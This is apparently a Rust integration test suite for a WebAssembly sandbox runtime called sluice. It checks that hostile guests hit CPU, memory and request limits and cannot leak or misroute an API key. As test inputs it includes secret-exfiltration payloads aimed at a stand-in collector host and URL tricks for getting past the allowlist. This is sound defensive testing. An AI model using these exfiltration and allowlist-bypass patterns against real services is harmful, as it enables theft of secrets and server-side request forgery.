//! Deliberately hostile guests, the secret rules and the allowlist. Each
//! attempt is contained with the right error, nothing reaches the network,
//! and the host carries on serving other calls.

mod support;

use std::time::{Duration, Instant};

use serde_json::{json, Value};
use sluice::secrets::Settings;
use sluice::{Kind, Runtime};
use support::{component, component_without_wasi, hostile_variant, runtime_with, Recorder};

const API: &str = "https://api.hostile.test";
const SECRET: &str = "s3cr3t-key-do-not-leak";

async fn setup() -> (Runtime, Recorder) {
    let server = Recorder::start().await;
    let rt = runtime_with(vec![server.route(API)], |o| {
        o.limits.cpu = Duration::from_millis(200);
        o.limits.memory_bytes = 32 << 20;
    });
    (rt, server)
}

async fn call(rt: &Runtime, action: &str) -> (Result<String, sluice::Error>, Vec<sluice::egress::Exchange>) {
    call_with(rt, action, json!({})).await
}

async fn call_with(rt: &Runtime, action: &str, payload: Value) -> (Result<String, sluice::Error>, Vec<sluice::egress::Exchange>) {
    let module = rt.load_path(&component("sluice-hostile")).await.expect("load hostile");
    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET, "region": "eu"})).unwrap();
    let call = rt.perform(&rt.client(module, &settings).expect("client"), action, &payload).await;
    (call.result.map(|o| o.body), call.exchanges)
}

async fn expect_error(rt: &Runtime, action: &str, kind: Kind, needle: &str) -> sluice::Error {
    let (result, _) = call(rt, action).await;
    let err = result.expect_err(action);
    assert_eq!(err.kind, kind, "{action}: {}", err.message);
    assert!(err.message.contains(needle), "{action}: {:?} lacks {needle:?}", err.message);
    assert!(!err.message.contains(SECRET));
    err
}

#[tokio::test]
async fn an_infinite_loop_hits_the_cpu_deadline() {
    let (rt, _s) = setup().await;
    let started = Instant::now();
    expect_error(&rt, "loop", Kind::Guest, "CPU time").await;
    assert!(started.elapsed() < Duration::from_secs(10));
}

#[tokio::test]
async fn a_memory_hog_hits_the_memory_cap() {
    let (rt, _s) = setup().await;
    expect_error(&rt, "hog", Kind::Guest, "memory").await;
}

#[tokio::test]
async fn a_panic_is_a_guest_error_with_its_message() {
    let (rt, _s) = setup().await;
    expect_error(&rt, "panic", Kind::Guest, "hostile guest gives up").await;
}

#[tokio::test]
async fn the_host_carries_on_after_each_failure() {
    let (rt, server) = setup().await;
    for bad in ["loop", "hog", "panic"] {
        assert!(call(&rt, bad).await.0.is_err());
        let (ok, _) = call(&rt, "ok").await;
        ok.unwrap_or_else(|e| panic!("ok after {bad}: {e}"));
    }
    assert_eq!(server.take().len(), 3);
}

#[tokio::test]
async fn concurrent_calls_survive_a_runaway_neighbour() {
    let (rt, server) = setup().await;
    let rt = std::sync::Arc::new(rt);
    let looping = tokio::spawn({
        let rt = rt.clone();
        async move { call(&rt, "loop").await.0 }
    });
    for _ in 0..5 {
        call(&rt, "ok").await.0.expect("ok while another call loops");
    }
    assert!(looping.await.unwrap().is_err());
    assert_eq!(server.take().len(), 5);
}

#[tokio::test]
async fn undeclared_hosts_are_denied() {
    let (rt, server) = setup().await;
    expect_error(&rt, "undeclared", Kind::Egress, "https://evil.example.com").await;
    assert!(server.seen().is_empty());
}

#[tokio::test]
async fn private_and_loopback_addresses_are_denied_even_when_declared() {
    let (rt, _s) = setup().await;
    expect_error(&rt, "private-ip", Kind::Egress, "private").await;
    expect_error(&rt, "loopback", Kind::Egress, "private").await;
}

#[tokio::test]
async fn a_secret_is_only_sent_to_its_bindings_hosts() {
    let (rt, server) = setup().await;
    let err = expect_error(&rt, "exfiltrate", Kind::Egress, "may not send secret 'apiKey'").await;
    assert!(err.message.contains("https://collector.hostile.test"));
    assert!(server.seen().is_empty());
}

#[tokio::test]
async fn a_guest_cannot_set_credential_headers() {
    let (rt, server) = setup().await;
    expect_error(&rt, "forge-auth", Kind::Egress, "'authorization'").await;
    assert!(server.seen().is_empty());
}

#[tokio::test]
async fn a_guest_never_sees_the_secret() {
    let (rt, _s) = setup().await;
    let (result, _) = call(&rt, "snoop").await;
    let seen: Value = serde_json::from_str(&result.expect("snoop")).unwrap();
    assert_eq!(seen["settings"], json!({"region": "eu"}), "only public settings reach the guest");
    assert_eq!(seen["env"], json!([]), "no environment");
    assert_eq!(seen["args"], json!([]), "no arguments");
    // The filesystem is linked (libc and the JavaScript runtimes import it) but
    // holds no directories: every path is out of reach, relative or absolute.
    let files = seen["files"].as_object().unwrap();
    assert_eq!(files.len(), 5, "{files:?}");
    for (what, result) in files {
        assert!(result.as_str().unwrap().starts_with("error: "), "{what} succeeded: {result}");
    }
    assert!(!seen.to_string().contains(SECRET));
}

#[tokio::test]
async fn the_host_adds_the_secret_and_redacts_it_everywhere_else() {
    let (rt, server) = setup().await;
    // The API echoes the key back; the guest must get it redacted.
    server.answer_with(200, &format!(r#"{{"echo":"Bearer {SECRET}"}}"#));
    let (result, exchanges) = call(&rt, "ok").await;
    assert!(!result.expect("ok").contains(SECRET));
    let sent = server.take();
    assert_eq!(sent[0].header("authorization"), Some(format!("Bearer {SECRET}").as_str()));
    let shown = serde_json::to_string(&exchanges).unwrap();
    assert!(!shown.contains(SECRET) && shown.contains("[redacted]"), "{shown}");
}

#[tokio::test]
async fn a_component_that_imports_sockets_is_refused_at_load() {
    // A component whose only import is wasi:sockets (no network but http.send).
    let wat = r#"(component
        (import "wasi:sockets/instance-network@0.2.0" (instance
            (export "instance-network" (func (result u32)))
        ))
    )"#;
    let dir = support::root().join("target/test-modules");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("sockets-importer.wasm");
    std::fs::write(&path, wat::parse_str(wat).unwrap()).unwrap();
    let (rt, _s) = setup().await;
    let err = rt.load_path(&path).await.err().expect("refused");
    assert_eq!(err.kind, Kind::Config);
    assert!(err.message.contains("wasi:sockets/instance-network"), "{}", err.message);
}

/// A component made of more core instances than the pool holds per component
/// is refused at load, saying what it needs, instead of failing its calls.
#[tokio::test]
async fn a_component_beyond_the_pools_limits_is_refused_at_load() {
    let instances: String = (0..70).map(|i| format!("(core instance $i{i} (instantiate $m))")).collect();
    let wat = format!("(component (core module $m) {instances})");
    let dir = support::root().join("target/test-modules");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("many-instances.wasm");
    std::fs::write(&path, wat::parse_str(wat).unwrap()).unwrap();
    let (rt, _s) = setup().await;
    let err = rt.load_path(&path).await.err().expect("refused");
    assert_eq!(err.kind, Kind::Config);
    assert!(err.message.contains("needs 70 core instances (at most 64)"), "{}", err.message);
}

async fn with_egress_limits(limits: sluice::egress::Limits) -> (Runtime, Recorder) {
    let server = Recorder::start().await;
    let mut opts = sluice::Options::new(sluice::egress::Egress::new(vec![server.route(API)], limits, false));
    opts.cache_dir = Some(support::cache_dir());
    (Runtime::new(opts).unwrap(), server)
}

#[tokio::test]
async fn redirects_are_not_followed() {
    let (rt, server) = setup().await;
    server.answer(support::Answer {
        status: 302,
        body: String::new(),
        headers: vec![("location".into(), "https://evil.example.com/".into())],
        ..Default::default()
    });
    let err = expect_error(&rt, "ok", Kind::Rejected, "302").await;
    assert_eq!(err.status, Some(302));
    assert_eq!(server.take().len(), 1, "only the first request was made");
}

#[tokio::test]
async fn a_slow_api_times_out_as_retryable() {
    let limits = sluice::egress::Limits { request_timeout: Duration::from_millis(300), ..Default::default() };
    let (rt, server) = with_egress_limits(limits).await;
    server.answer(support::Answer { status: 200, body: "{}".into(), delay: Duration::from_secs(5), ..Default::default() });
    expect_error(&rt, "ok", Kind::Retryable, "did not answer within").await;
}

#[tokio::test]
async fn an_oversized_response_is_cut_off() {
    let limits = sluice::egress::Limits { max_response_bytes: 1024, ..Default::default() };
    let (rt, server) = with_egress_limits(limits).await;
    server.answer_with(200, &"x".repeat(4096));
    expect_error(&rt, "ok", Kind::Egress, "larger than 1024 bytes").await;
}

#[tokio::test]
async fn url_tricks_do_not_get_around_the_allowlist() {
    let (rt, server) = setup().await;
    for (url, needle) in [
        ("https://api.hostile.test@evil.example.com/", "may not reach https://evil.example.com"),
        ("https://api.hostile.test./x", "may not reach https://api.hostile.test."),
        ("http://api.hostile.test/x", "may not reach http://api.hostile.test"),
        ("https://api.hostile.test:8443/x", "may not reach https://api.hostile.test:8443"),
        ("https://localhost/x", "private address"),
        ("https://[::ffff:127.0.0.1]/x", "private address"),
        ("https://[::1]/x", "private address"),
    ] {
        let (result, _) = call_with(&rt, "fetch", json!({"url": url})).await;
        let err = result.expect_err(url);
        assert_eq!(err.kind, Kind::Egress, "{url}: {}", err.message);
        assert!(err.message.contains(needle), "{url}: {:?} lacks {needle:?}", err.message);
    }
    assert!(server.seen().is_empty());
    // Case and an explicit default port name the same origin, so they are allowed.
    for url in ["https://API.Hostile.TEST/ok", "https://api.hostile.test:443/ok"] {
        call_with(&rt, "fetch", json!({"url": url})).await.0.unwrap_or_else(|e| panic!("{url}: {e}"));
    }
    assert_eq!(server.take().len(), 2);
}

#[tokio::test]
async fn a_chatty_guest_is_not_a_broken_one() {
    let (rt, server) = setup().await;
    call(&rt, "chatty").await.0.expect("200 KiB of stdout is truncated, not fatal");
    assert_eq!(server.take().len(), 1);
}

#[tokio::test]
async fn a_call_may_make_only_so_many_requests() {
    let (rt, _s) = setup().await;
    let (result, exchanges) = call(&rt, "flood").await;
    let err = result.expect_err("flood stops");
    assert_eq!(err.kind, Kind::Egress);
    assert!(err.message.contains("more than 1000 requests in one call"), "{}", err.message);
    assert!(exchanges.len() <= 1001);
}

// ---- The holes an attack found (and that stay closed) ----

async fn refused_at_load(path: &std::path::Path, needle: &str) {
    let (rt, _s) = setup().await;
    let err = rt.load_path(path).await.err().expect("the host refuses the module");
    assert_eq!(err.kind, Kind::Config, "{}", err.message);
    assert!(err.message.contains(needle), "{:?} lacks {needle:?}", err.message);
}

#[tokio::test]
async fn a_setting_declared_twice_is_refused_at_load() {
    // Once secret, once public: the public copy would have handed the key to the guest.
    refused_at_load(&hostile_variant("dup-secret"), "settings.apiKey: 'apiKey' is declared more than once").await;
}

#[tokio::test]
async fn actions_fields_and_presets_declared_twice_are_refused_at_load() {
    refused_at_load(&hostile_variant("dup-action"), "actions.ok: 'ok' is declared more than once").await;
    refused_at_load(&hostile_variant("dup-field"), "actions.ok.fields.id: 'id' is declared more than once").await;
    refused_at_load(&hostile_variant("dup-preset"), "presets.Twice: 'Twice' is declared more than once").await;
}

#[tokio::test]
async fn an_auth_binding_may_not_write_the_host_header() {
    refused_at_load(&hostile_variant("host-header"), "auth[0].header: 'host' frames or routes the request").await;
}

/// The hostile component with `count` more core instances appended, each
/// with its own memory of `mib` MiB.
fn with_extra_memories(count: u32, mib: u64) -> std::path::PathBuf {
    use wasm_encoder::{InstanceSection, MemorySection, MemoryType, Module, ModuleSection};
    let mut bytes = std::fs::read(component("sluice-hostile")).unwrap();
    // The appended module's index is the number of top-level core modules.
    let (mut depth, mut modules) = (0u32, 0u32);
    for payload in wasmparser::Parser::new(0).parse_all(&bytes) {
        match payload.unwrap() {
            wasmparser::Payload::ModuleSection { .. } => {
                if depth == 0 {
                    modules += 1;
                }
                depth += 1;
            }
            wasmparser::Payload::ComponentSection { .. } => depth += 1,
            wasmparser::Payload::End(_) => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    let mut memories = MemorySection::new();
    memories.memory(MemoryType { minimum: mib * 16, maximum: None, memory64: false, shared: false, page_size_log2: None });
    let mut module = Module::new();
    module.section(&memories);
    let mut extra = wasm_encoder::Component::new();
    extra.section(&ModuleSection(&module));
    let mut instances = InstanceSection::new();
    for _ in 0..count {
        instances.instantiate(modules, Vec::<(&str, wasm_encoder::ModuleArg)>::new());
    }
    extra.section(&instances);
    bytes.extend_from_slice(&extra.finish()[8..]);
    let dir = support::root().join("target/test-modules/variants");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join(format!("hostile-{count}x{mib}mib.wasm"));
    std::fs::write(&path, bytes).unwrap();
    path
}

#[tokio::test]
async fn the_memory_cap_holds_for_all_memories_of_a_call() {
    // Six memories of 8 MiB each: every one is under the 32 MiB cap, together
    // they are not (and seven memories in all are within the pool's eight).
    let (rt, _s) = setup().await;
    let err = rt.load_path(&with_extra_memories(6, 8)).await.err().expect("refused");
    assert_eq!(err.kind, Kind::Guest, "{}", err.message);
    assert!(err.message.contains("over the limit of 33554432 bytes per instance"), "{}", err.message);
    // Two such memories fit, and the component works.
    let module = rt.load_path(&with_extra_memories(2, 8)).await.expect("within the cap");
    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET})).unwrap();
    rt.perform(&rt.client(module, &settings).expect("client"), "ok", &json!({})).await.result.expect("ok");
}

#[tokio::test]
async fn header_bytes_are_capped_per_request() {
    let (rt, server) = setup().await;
    let (result, exchanges) = call(&rt, "big-header").await;
    let err = result.expect_err("a 1 MiB header");
    assert_eq!(err.kind, Kind::Egress, "{}", err.message);
    assert!(err.message.contains("headers are larger than 65536 bytes"), "{}", err.message);
    assert!(server.seen().is_empty());
    assert!(serde_json::to_string(&exchanges).unwrap().len() < 4096, "the host keeps a summary, not the header");
}

#[tokio::test]
async fn one_call_may_send_only_so_many_bytes_and_the_host_keeps_summaries() {
    // In dry-run the host used to keep every body until the call ended.
    let server = Recorder::start().await;
    let egress = sluice::egress::Egress::new(vec![server.route(API)], Default::default(), true);
    let mut opts = sluice::Options::new(egress);
    opts.cache_dir = Some(support::cache_dir());
    // This is about the byte cap: leave the guest's own copying (slow in a
    // debug build on a busy machine) well inside its CPU limit.
    opts.limits.cpu = Duration::from_secs(20);
    let rt = Runtime::new(opts).unwrap();
    let (result, exchanges) = call(&rt, "big-bodies").await;
    let err = result.expect_err("stopped");
    assert_eq!(err.kind, Kind::Egress, "{}", err.message);
    assert!(err.message.contains("more than 67108864 bytes in one call"), "{}", err.message);
    assert!(exchanges.len() <= 17, "{} requests", exchanges.len());
    let kept = serde_json::to_string(&exchanges).unwrap().len();
    assert!(kept < (1 << 20) + 64 * 1024, "kept {kept} bytes of summaries");
}

fn encodings(secret: &str) -> Vec<String> {
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    use base64::Engine;
    vec![
        secret.to_string(),
        STANDARD.encode(format!("Bearer {secret}")),
        URL_SAFE_NO_PAD.encode(format!("x{secret}")),
        hex::encode(secret),
        hex::encode_upper(secret),
        secret.bytes().map(|b| format!("%{b:02X}")).collect(),
    ]
}

#[tokio::test]
async fn a_key_echoed_back_in_any_common_encoding_never_reaches_the_guest_or_the_operator() {
    let (rt, server) = setup().await;
    let echoed = encodings(SECRET).join(" | ");
    server.answer_with(200, &format!(r#"{{"echo":"{echoed}"}}"#));
    let (result, _) = call(&rt, "echo").await;
    let err = result.expect_err("echo fails on purpose");
    for form in encodings(SECRET) {
        assert!(!err.message.contains(&form), "{form} in {}", err.message);
    }
    assert!(err.message.contains("[redacted]"), "{}", err.message);
}

#[tokio::test]
async fn a_guest_error_carrying_the_key_is_redacted() {
    let (rt, _s) = setup().await;
    for form in encodings(SECRET) {
        let (result, _) = call_with(&rt, "say", json!({"message": format!("got it: {form}")})).await;
        let err = result.expect_err("say fails");
        assert!(!err.message.contains(&form), "{form} in {}", err.message);
    }
}

#[tokio::test]
async fn egress_carrying_the_key_outside_its_binding_is_refused() {
    let (rt, server) = setup().await;
    for form in encodings(SECRET) {
        let to = "https://collector.hostile.test/steal";
        for payload in [
            json!({"url": to, "body": format!("k={form}")}),
            json!({"url": format!("{to}?k={form}")}),
            json!({"url": to, "headers": {"x-data": form}}),
            json!({"url": format!("{API}/ok"), "body": form}),
        ] {
            let (result, _) = call_with(&rt, "send-given", payload.clone()).await;
            let err = result.expect_err("refused");
            assert_eq!(err.kind, Kind::Egress, "{payload}: {}", err.message);
            assert!(err.message.contains("may not send a secret's value"), "{payload}: {}", err.message);
            assert!(!err.message.contains(&form));
        }
    }
    assert!(server.seen().is_empty());
}

#[tokio::test]
async fn a_compile_cache_others_can_write_is_not_used() {
    use std::os::unix::fs::PermissionsExt;
    let dir = support::root().join("target/test-cache-shared");
    let _ = std::fs::remove_dir_all(&dir);
    let load = |dir: std::path::PathBuf| async move {
        let mut opts = sluice::Options::new(sluice::egress::Egress::new(vec![], Default::default(), true));
        opts.cache_dir = Some(dir);
        Runtime::new(opts).unwrap().load_path(&component("sluice-hostile")).await.unwrap().from_cache
    };
    // A fresh cache is created private, and used on the next start.
    assert!(!load(dir.clone()).await);
    assert_eq!(std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777, 0o700);
    let entry = std::fs::read_dir(&dir).unwrap().next().unwrap().unwrap().path();
    assert_eq!(std::fs::metadata(&entry).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(load(dir.clone()).await, "a private cache is used");
    // An entry others could have patched is not deserialised.
    std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o666)).unwrap();
    assert!(!load(dir.clone()).await, "a group- or world-writable entry is refused");
    std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o600)).unwrap();
    // Nor is any entry in a folder others can write.
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o777)).unwrap();
    assert!(!load(dir.clone()).await, "a world-writable folder is refused");
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o700)).unwrap();
    assert!(load(dir).await);
}

#[tokio::test]
async fn control_characters_in_a_description_are_refused_at_load() {
    // ESC sequences would rewrite what `describe` shows (a forged `hosts:` line).
    refused_at_load(&hostile_variant("escapes"), "contains a control character").await;
}

#[tokio::test]
async fn a_huge_guest_error_is_cut() {
    let (rt, _s) = setup().await;
    let err = expect_error(&rt, "huge-error", Kind::Guest, "bytes cut").await;
    assert!(err.message.len() <= sluice::printable::MAX_GUEST_TEXT + 64, "{} bytes", err.message.len());
}

/// A runtime with these CPU and wall-clock limits per call, in milliseconds.
async fn with_time_limits(cpu_ms: u64, wall_ms: u64) -> (Runtime, Recorder) {
    let server = Recorder::start().await;
    let rt = runtime_with(vec![server.route(API)], |o| {
        o.limits.cpu = Duration::from_millis(cpu_ms);
        o.limits.wall = Duration::from_millis(wall_ms);
    });
    (rt, server)
}

#[tokio::test]
async fn a_sleeping_guest_meets_the_wall_clock_deadline_not_the_cpu_limit() {
    let (rt, _server) = with_time_limits(200, 1500).await;
    // Sleeping 600 ms is three times the CPU limit, but it is waiting, not computing.
    let (result, _) = call_with(&rt, "sleep", json!({"ms": 600})).await;
    result.expect("sleeping is not CPU time");
    let (result, _) = call_with(&rt, "sleep", json!({"ms": 5000})).await;
    let err = result.expect_err("over the deadline");
    assert_eq!(err.kind, Kind::Guest);
    assert!(err.message.contains("wall-clock deadline of 1.5s"), "{}", err.message);
    assert!(!err.message.contains("more than 200ms of CPU time"), "{}", err.message);
    // A busy loop is still reported as CPU.
    let (result, _) = call_with(&rt, "loop", json!({})).await;
    assert!(result.expect_err("loop").message.contains("more than 200ms of CPU time"));
}

async fn constrained_client(rt: &Runtime, region: &str) -> Result<sluice::Client, sluice::Error> {
    let module = rt.load_path(&hostile_variant("constrained")).await.expect("load");
    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET, "region": region})).unwrap();
    rt.client(module, &settings)
}

#[tokio::test]
async fn a_setting_that_decides_an_origin_is_held_to_the_modules_pattern() {
    let (rt, _s) = setup().await;
    // Where the key would go is checked when the settings load, naming the setting.
    let err = constrained_client(&rt, "https://evil.example").await.err().expect("refused");
    assert_eq!(err.kind, Kind::Validation);
    assert!(err.message.contains("setting 'region' is https://evil.example, which is outside https://*.hostile.test"), "{}", err.message);
    assert!(err.message.contains("--allow-origin https://evil.example"), "{}", err.message);
    for bad in ["https://hostile.test.evil.example", "http://eu.hostile.test", "eu"] {
        let err = constrained_client(&rt, bad).await.err().expect(bad);
        assert!(err.message.contains("setting 'region'"), "{bad}: {}", err.message);
    }
    constrained_client(&rt, "https://eu.api.hostile.test").await.expect("within the pattern");

    // The operator may allow a custom domain.
    let server = Recorder::start().await;
    let rt = runtime_with(vec![server.route("https://evil.example")], |o| {
        o.allow_origins = vec![url::Url::parse("https://evil.example").unwrap().origin()];
    });
    constrained_client(&rt, "https://evil.example").await.expect("allowed by the operator");
}

#[tokio::test]
async fn talon_ones_deployment_must_be_a_talon_one_origin() {
    let (rt, _s) = setup().await;
    let module = rt.load_path(&component("sluice-talon-one")).await.unwrap();
    let split = |d: &str| Settings::split(&module.description, &json!({"apiKey": SECRET, "deployment": d})).unwrap();
    let err = rt.client(module.clone(), &split("https://evil.example")).err().expect("refused");
    assert!(err.message.contains("setting 'deployment' is https://evil.example"), "{}", err.message);
    rt.client(module.clone(), &split("https://acme.europe-west1.talon.one")).expect("a Talon.One deployment");
}

#[tokio::test]
async fn a_signing_binding_sends_an_hmac_of_the_body_never_the_key() {
    let (rt, server) = setup().await;
    let module = rt.load_path(&hostile_variant("signed")).await.expect("load");
    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET})).unwrap();
    let call = rt.perform(&rt.client(module, &settings).expect("client"), "ok", &json!({})).await;
    call.result.expect("sent");
    let seen = server.take();
    let body = &seen[0].body;
    let expected = sluice::egress::sign(SECRET.as_bytes(), body, "sha256={signature}", sluice_core::SignatureEncoding::Hex);
    assert_eq!(seen[0].header("x-signature"), Some(expected.as_str()));
    assert!(seen[0].header("authorization").is_none());
    assert!(!format!("{:?}", seen[0].headers).contains(SECRET));
}

// ---- Warm instances: one client's, never another's, never after a failure ----

async fn hostile_client(rt: &Runtime) -> sluice::Client {
    client_of(rt, &component("sluice-hostile")).await
}

async fn client_of(rt: &Runtime, path: &std::path::Path) -> sluice::Client {
    let module = rt.load_path(path).await.expect("load hostile");
    let settings = Settings::split(&module.description, &json!({"apiKey": SECRET, "region": "eu"})).unwrap();
    rt.client(module, &settings).expect("client")
}

async fn on(rt: &Runtime, client: &sluice::Client, action: &str, payload: Value) -> Result<String, sluice::Error> {
    rt.perform(client, action, &payload).await.result.map(|o| o.body)
}

async fn count(rt: &Runtime, client: &sluice::Client) -> String {
    on(rt, client, "count", json!({})).await.expect("count")
}

#[tokio::test]
async fn a_warm_instance_serves_only_the_client_it_was_made_for() {
    let (rt, _s) = setup().await;
    let (a, b) = (hostile_client(&rt).await, hostile_client(&rt).await);
    assert_eq!(count(&rt, &a).await, "1");
    assert_eq!(count(&rt, &a).await, "2", "the same client's next call reuses its instance");
    // Same module, same settings, but another client: never its instance.
    assert_eq!(count(&rt, &b).await, "1");
    assert_eq!(count(&rt, &a).await, "3");
}

#[tokio::test]
async fn a_call_that_fails_drops_its_instance() {
    let (rt, _server) = with_time_limits(200, 500).await;
    let a = hostile_client(&rt).await;
    for (action, payload) in [("panic", json!({})), ("loop", json!({})), ("sleep", json!({"ms": 2000}))] {
        assert_eq!(count(&rt, &a).await, "1");
        assert_eq!(count(&rt, &a).await, "2");
        assert!(on(&rt, &a, action, payload).await.is_err(), "{action} fails");
        assert_eq!(count(&rt, &a).await, "1", "after {action}, a fresh instance");
        // Start the next round on a fresh instance too.
        on(&rt, &a, "panic", json!({})).await.expect_err("panic");
    }
    // A guest's own error is an answer, not a failure: the instance stays.
    assert_eq!(count(&rt, &a).await, "1");
    on(&rt, &a, "say", json!({"message": "no"})).await.expect_err("say answers with an error");
    assert_eq!(count(&rt, &a).await, "2");
}

#[tokio::test]
async fn each_call_on_a_warm_instance_starts_its_limits_afresh() {
    // CPU: three calls of 120 ms each, on one instance, under a 200 ms limit per call.
    let (rt, _s) = setup().await;
    let a = hostile_client(&rt).await;
    for _ in 0..3 {
        on(&rt, &a, "spin", json!({"ms": 120})).await.expect("each call has its own CPU time");
    }
    assert_eq!(count(&rt, &a).await, "1", "one instance served them all");
    // Requests: a cap of 3 per call, 5 calls of one request each.
    let (rt, _s) = with_egress_limits(sluice::egress::Limits { max_requests_per_call: 3, ..Default::default() }).await;
    let a = hostile_client(&rt).await;
    for _ in 0..5 {
        on(&rt, &a, "ok", json!({})).await.expect("each call has its own request ledger");
    }
}

#[tokio::test]
async fn a_leaking_guest_meets_the_memory_cap_and_is_replaced() {
    let (rt, _s) = setup().await; // 32 MiB
    let a = hostile_client(&rt).await;
    let mut stopped = None;
    for call in 1..=20 {
        if let Err(e) = on(&rt, &a, "leak", json!({})).await {
            stopped = Some((call, e));
            break;
        }
    }
    let (call, err) = stopped.expect("4 MiB a call cannot go on under 32 MiB");
    assert!(call > 1 && call < 9, "stopped at call {call}");
    assert_eq!(err.kind, Kind::Guest);
    assert!(err.message.contains("memory"), "{}", err.message);
    assert_eq!(count(&rt, &a).await, "1", "a fresh instance after the cap");
    on(&rt, &a, "leak", json!({})).await.expect("with its memory back");
}

#[tokio::test]
async fn an_instance_is_replaced_after_its_calls_and_none_is_kept_when_told() {
    let server = Recorder::start().await;
    let rt = runtime_with(vec![server.route(API)], |o| o.warm_calls = 3);
    let a = hostile_client(&rt).await;
    assert_eq!(counts(&rt, &a, 5).await, ["1", "2", "3", "1", "2"]);

    let rt = runtime_with(vec![server.route(API)], |o| o.warm_calls = 0);
    let a = hostile_client(&rt).await;
    assert_eq!(counts(&rt, &a, 3).await, ["1", "1", "1"]);
}

async fn counts(rt: &Runtime, client: &sluice::Client, n: usize) -> Vec<String> {
    let mut out = Vec::new();
    for _ in 0..n {
        out.push(count(rt, client).await);
    }
    out
}

#[tokio::test]
async fn idle_instances_make_room_for_other_clients() {
    // One call at a time, so one idle instance: the oldest goes first.
    let server = Recorder::start().await;
    let rt = runtime_with(vec![server.route(API)], |o| o.max_instances = 1);
    let (a, b) = (hostile_client(&rt).await, hostile_client(&rt).await);
    assert_eq!(count(&rt, &a).await, "1");
    assert_eq!(count(&rt, &b).await, "1");
    let again = tokio::time::timeout(Duration::from_secs(10), count(&rt, &a)).await.expect("never waits on an idle instance");
    assert_eq!(again, "1", "a's instance made room for b's");
    assert_eq!(count(&rt, &a).await, "2");
}

/// The built-in destinations are built without WASI, with the SDK's own
/// allocator and panic hook (guests/sdk/src/no_wasi.rs): the same limits hold
/// and a panic's message still reaches the error, by the log.
#[tokio::test]
async fn a_guest_without_wasi_is_held_to_the_same_limits_and_says_why_it_panicked() {
    let (rt, _s) = setup().await; // 32 MiB
    let a = client_of(&rt, &component_without_wasi("sluice-hostile")).await;
    let err = on(&rt, &a, "panic", json!({})).await.expect_err("panic");
    assert_eq!(err.kind, Kind::Guest);
    assert!(err.message.contains("panicked: panicked at") && err.message.contains("hostile guest gives up"), "{}", err.message);

    let err = on(&rt, &a, "hog", json!({})).await.expect_err("hog");
    assert!(err.message.contains("memory"), "{}", err.message);

    let mut stopped = None;
    for call in 1..=20 {
        if let Err(e) = on(&rt, &a, "leak", json!({})).await {
            stopped = Some(call);
            assert!(e.message.contains("memory"), "{}", e.message);
            break;
        }
    }
    let call = stopped.expect("4 MiB a call cannot go on under 32 MiB");
    assert!(call > 1 && call < 9, "stopped at call {call}");
    assert_eq!(count(&rt, &a).await, "1", "a fresh instance after the cap");
    on(&rt, &a, "ok", json!({})).await.expect("ok after all that");
}
